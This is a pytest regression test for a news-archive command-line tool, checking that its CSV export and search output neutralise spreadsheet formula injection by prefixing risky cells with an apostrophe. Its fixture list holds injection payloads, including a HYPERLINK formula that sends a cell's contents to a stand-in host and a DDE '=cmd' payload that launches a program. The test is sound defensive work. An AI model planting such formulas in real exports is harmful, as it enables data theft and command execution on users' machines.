"""Defect 4: titles such as =HYPERLINK(...), +SUM(1,2), @SUM(A1) went unchanged into CSV exports and
ran as formulas in a spreadsheet."""

from __future__ import annotations

import csv

from clipper.cli.main import main
from clipper.store.archive import Archive
from tests._archive import insert_row

HOSTILE = ['=HYPERLINK("http://jahat.example/?d="&A1,"klik")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]


def _archive(path):
    with Archive(path) as archive:
        for number, title in enumerate(HOSTILE):
            insert_row(archive, {"url": f"https://contoh.id/{number}", "url_key": f"contoh.id/{number}",
                                 "media": "=cmd|' /C calc'!A0" if number == 0 else "Media Uji", "title": title,
                                 "text": "Kementerian Agama meluncurkan layanan daring.", "day": "2026-11-24",
                                 "status": "approved", "summary": "@ringkasan berbahaya" if number == 0 else None})


def test_04_csv_cells_cannot_run_formulas(tmp_path, capsys):
    """Every CSV writer (export and search) prefixes cells that start a formula with an apostrophe."""
    db = tmp_path / "a.db"
    _archive(db)
    exported, searched = tmp_path / "ekspor.csv", tmp_path / "cari.csv"
    assert main(["--db", str(db), "export", "--format", "csv", "--out", str(exported)]) == 0
    assert main(["--db", str(db), "search", "--status", "all", "--format", "csv", "--out", str(searched)]) == 0
    for path in (exported, searched):
        with open(path, newline="", encoding="utf-8") as stream:
            rows = list(csv.DictReader(stream))
        assert sorted(r["title"] for r in rows) == sorted("'" + t for t in HOSTILE)
        first = next(r for r in rows if r["title"].startswith("'=HYPERLINK"))
        assert first["media"] == "'=cmd|' /C calc'!A0" and first["summary"] == "'@ringkasan berbahaya"
        cells = [cell for row in rows for cell in row.values() if cell]
        assert not [c for c in cells if c[0] in "=+-@\t\r"]
    capsys.readouterr()
